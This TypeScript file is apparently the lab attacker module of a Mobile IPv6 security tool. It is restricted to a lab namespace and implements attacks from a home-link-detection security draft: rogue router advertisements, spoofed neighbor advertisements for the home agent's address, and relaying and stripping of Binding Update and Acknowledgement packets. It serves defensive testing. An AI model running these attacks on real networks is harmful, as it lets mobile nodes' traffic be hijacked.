/**
 * The attacker of draft-ebalard-mext-hld-security-00 sections 4 and 5, for the lab and for nothing else: it runs in the
 * lab's namespace of that name only, where nobody is but the lab's own stations.
 */
import { isSameAddress } from '../../../dissectors/core/address.ts';
import { equalBytes, u8 } from '../../../dissectors/core/bytes.ts';
import { DiagnosticList } from '../../../dissectors/core/diagnostic.ts';
import {
  NEIGHBOR_ADVERTISEMENT_FLAGS,
  ROUTER_ADVERTISEMENT_FLAGS,
  decodeIcmpv6,
} from '../../../dissectors/icmpv6/index.ts';
import type { NdOption } from '../../../dissectors/icmpv6/index.ts';
import {
  destinationOptions,
  homeAddressOption,
  ipv6Packet,
} from '../../../dissectors/ipv6/build.ts';
import { NEXT_HEADER } from '../../../dissectors/ipv6/header.ts';
import { openPacketLink, systemScheduler } from '../../../io/inline/index.ts';
import { frameOf } from '../../../nodes/interface/ethernet-frame.ts';
import { ALL_NODES, groupLinkAddress } from '../../../nodes/interface/link-address.ts';
import { discoveryPacket } from '../../../nodes/interface/neighbor-discovery.ts';
import { prefixInformation } from '../../../nodes/interface/router-advertisement.ts';
import { CliError, EXIT } from '../../exit-codes.ts';
import type { Terminal } from '../../terminal.ts';
import { frameKind, packetOf, upperLayerOf } from '../frame-kind.ts';
import { isInNamespace } from '../ip-tool.ts';
import type { LabPlace } from '../lab-state.ts';
import {
  ADDRESSES,
  WIRES,
  attackerAddress,
  linkLayerOctets,
  linkLocalText,
  namespaceOf,
  octetsOf,
} from '../plan.ts';
import type { ForeignLink } from '../plan.ts';

/** The attacks, each a part of the next but one. */
export const ATTACKS = ['rogue-ra', 'partial-deregistration', 'relay'] as const;
export type AttackName = (typeof ATTACKS)[number];

/** Milliseconds between two false advertisements. */
const ADVERTISE_EVERY = 500;
const ROUTER_LIFETIME = 1800;
const ETHERNET = 14;
const SOURCE = 8;

/** Starts an attack on the mobile node of a link. @returns its end */
export function startAttacker(
  place: LabPlace,
  attack: AttackName,
  link: ForeignLink,
  terminal: Terminal,
): () => void {
  if (!isInNamespace(namespaceOf(place.prefix, 'attacker'))) {
    throw new CliError(EXIT.usage, 'the attacker runs in the namespace of a lab only', {
      hint: 'mip6guard lab attack NAME',
    });
  }
  const attacker = new Attacker(attack, link, terminal);
  return () => {
    attacker.close();
  };
}

class Attacker {
  readonly #attack: AttackName;
  readonly #terminal: Terminal;
  readonly #port = openPacketLink(WIRES.attacker.name);
  readonly #own = linkLayerOctets(WIRES.attacker);
  readonly #linkLocal = octetsOf(linkLocalText(WIRES.attacker));
  readonly #address: Uint8Array;
  readonly #homeAgent = octetsOf(ADDRESSES.homeAgent);
  readonly #homeAddress = octetsOf(ADDRESSES.homeAddress);
  readonly #mobile = linkLayerOctets(WIRES.mn);
  readonly #router: Uint8Array;
  readonly #told = new Set<string>();
  #timer: NodeJS.Timeout | undefined;

  constructor(attack: AttackName, link: ForeignLink, terminal: Terminal) {
    this.#attack = attack;
    this.#terminal = terminal;
    this.#address = octetsOf(attackerAddress(link));
    const router = link === 'foreign1' ? WIRES.routerForeign1 : WIRES.routerForeign2;
    this.#router = linkLayerOctets(router);
    this.#port.onFrame = (frame) => {
      this.#heard(frame);
    };
    this.#timer = setInterval(() => {
      this.#advertise();
    }, ADVERTISE_EVERY);
    this.#advertise();
  }

  close(): void {
    clearInterval(this.#timer);
    this.#timer = undefined;
    this.#port.close();
  }

  /** Section 5.2: the home prefix, with the address of the home agent. */
  #advertise(): void {
    const options: NdOption[] = [
      { kind: 'source-link-layer-address', address: this.#own },
      prefixInformation({
        address: this.#homeAgent,
        prefixLength: 64,
        isOnLink: true,
        isAutonomous: true,
        isRouterAddress: true,
        preferredLifetime: ROUTER_LIFETIME,
        validLifetime: ROUTER_LIFETIME,
      }),
    ];
    const advertisement = discoveryPacket(
      {
        kind: 'router-advertisement',
        code: 0,
        currentHopLimit: 64,
        flags: ROUTER_ADVERTISEMENT_FLAGS.homeAgent.mask,
        routerLifetime: ROUTER_LIFETIME,
        reachableTime: 0,
        retransTimer: 0,
        options,
      },
      this.#linkLocal,
      ALL_NODES,
    );
    this.#send(groupLinkAddress(ALL_NODES), advertisement);
    this.#tell('advertised the home prefix');
  }

  #heard(frame: Uint8Array): void {
    const upper = upperLayerOf(frame);
    if (upper === undefined) return;
    const packet = packetOf(frame);
    const source = packet.slice(SOURCE, SOURCE + 16);
    if (upper.protocol === NEXT_HEADER.icmpv6) {
      this.#answer(packet, upper.offset - ETHERNET, source, frame.slice(6, 12));
      return;
    }
    if (this.#attack === 'rogue-ra') return;
    const kind = frameKind(frame);
    const isToAttacker = equalBytes(frame, 0, this.#own, 0, 6);
    const esp = packet.slice(upper.offset - ETHERNET);
    if (kind === 'binding-update' && isToAttacker && isSameAddress(source, this.#homeAddress)) {
      this.#relay(esp);
    } else if (kind === 'binding-acknowledgement' && this.#attack === 'relay' && upper.isMobile) {
      this.#strip(esp);
    }
  }

  /** Section 5.3: a Home Address option is inserted, and the source is an address that gets answers. */
  #relay(esp: Uint8Array): void {
    const headers = [destinationOptions([homeAddressOption(this.#homeAddress)])];
    const relayed = ipv6Packet({
      source: this.#address,
      destination: this.#homeAgent,
      headers,
      protocol: NEXT_HEADER.esp,
      payload: esp,
    });
    this.#send(this.#router, relayed);
    this.#tell('relayed the Binding Update with a Home Address option');
  }

  /** Section 5.3: without its routing header it is what a node at home expects. */
  #strip(esp: Uint8Array): void {
    const stripped = ipv6Packet({
      source: this.#homeAgent,
      destination: this.#homeAddress,
      protocol: NEXT_HEADER.esp,
      payload: esp,
    });
    this.#send(this.#mobile, stripped);
    this.#tell('passed the Binding Acknowledgement on without its routing header');
  }

  /** Whoever asks for the attacker, or for the home agent on this link, gets the attacker. */
  #answer(packet: Uint8Array, offset: number, source: Uint8Array, asker: Uint8Array): void {
    const message = decodeIcmpv6(packet, offset, packet.length, new DiagnosticList());
    if (message?.kind !== 'neighbor-solicitation' || u8(source, 0) === 0) return;
    const target = message.targetAddress;
    const own = [this.#linkLocal, this.#address, this.#homeAgent];
    if (!own.some((each) => isSameAddress(each, target))) return;
    const { router, solicited, override } = NEIGHBOR_ADVERTISEMENT_FLAGS;
    const advertisement = discoveryPacket(
      {
        kind: 'neighbor-advertisement',
        code: 0,
        flags: (router.mask | solicited.mask | override.mask) >>> 0,
        targetAddress: target,
        options: [{ kind: 'target-link-layer-address', address: this.#own }],
      },
      target,
      source,
    );
    this.#send(asker, advertisement);
  }

  #send(to: Uint8Array, packet: Uint8Array): void {
    this.#port.send(frameOf(to, this.#own, packet));
  }

  /** A line for each thing that was done at least once. */
  #tell(what: string): void {
    if (this.#told.has(what)) return;
    this.#told.add(what);
    const time = new Date(systemScheduler.wallClock * 1000).toISOString();
    this.#terminal.say(`${time} ${what}`);
  }
}
